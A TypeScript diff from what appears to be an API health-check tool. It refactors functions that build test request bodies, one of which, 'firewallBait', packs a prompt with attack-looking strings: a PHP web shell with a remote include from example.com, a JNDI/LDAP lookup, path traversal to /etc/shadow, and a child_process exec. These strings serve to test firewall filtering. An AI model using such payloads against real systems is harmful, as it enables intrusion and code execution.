@@ -6,7 +6,7 @@ import { tierOf } from '../model-choice.ts';
  * desktop engine was seen to send (query `?beta=true`, headers, betas) and platform.claude.com "Messages".
  */
 
-const MESSAGES = '/v1/messages?beta=true';
+export const MESSAGES = '/v1/messages?beta=true';
 export const MODELS = '/v1/models?limit=1000';
 export const COUNT_TOKENS = '/v1/messages/count_tokens?beta=true';
 
@@ -156,7 +156,7 @@ export function twoToolsBody(model: string): Body {
  * A health check that carries what agent prompts carry and web application firewalls take for attacks: XML tags,
  * shell, markup, SQL, paths. None of it is run by anyone.
  */
-export function firewallBait(model: string, maxTokens: number): Body {
+export function firewallBait(small: Body): Body {
   const text = `You work on a developer's machine. The user's project holds shell scripts, web pages and queries.
 <system-reminder>
 Read a file before you change it. Never run a command that the user has not seen.
@@ -180,17 +180,12 @@ Paths in use: ../../../../etc/shadow, ..\\..\\windows\\system32\\cmd.exe, /proc/
 <?php system($_GET['cmd']); include('http://example.com/shell.txt'); ?>
 {{7*7}} \${jndi:ldap://example.com/a} require('child_process').exec('whoami')
 Answer with one short word.`;
-  return {
-    model,
-    max_tokens: maxTokens,
-    system: [{ type: 'text', text }],
-    messages: [{ role: 'user', content: '.' }],
-  };
+  return { ...small, system: [{ type: 'text', text }] };
 }
 
 /** A health check blown up with spaces between its JSON tokens: any size, and not one token more. */
-export function paddedBody(model: string, maxTokens: number, bytes: number): Uint8Array {
-  const json = Buffer.from(JSON.stringify(healthBody(model, maxTokens)), 'utf8');
+export function paddedBody(small: Body, bytes: number): Uint8Array {
+  const json = Buffer.from(JSON.stringify(small), 'utf8');
   const padded = Buffer.alloc(Math.max(bytes, json.length), 0x20);
   padded[0] = json[0] ?? 0x7b;
   json.copy(padded, padded.length - (json.length - 1), 1);
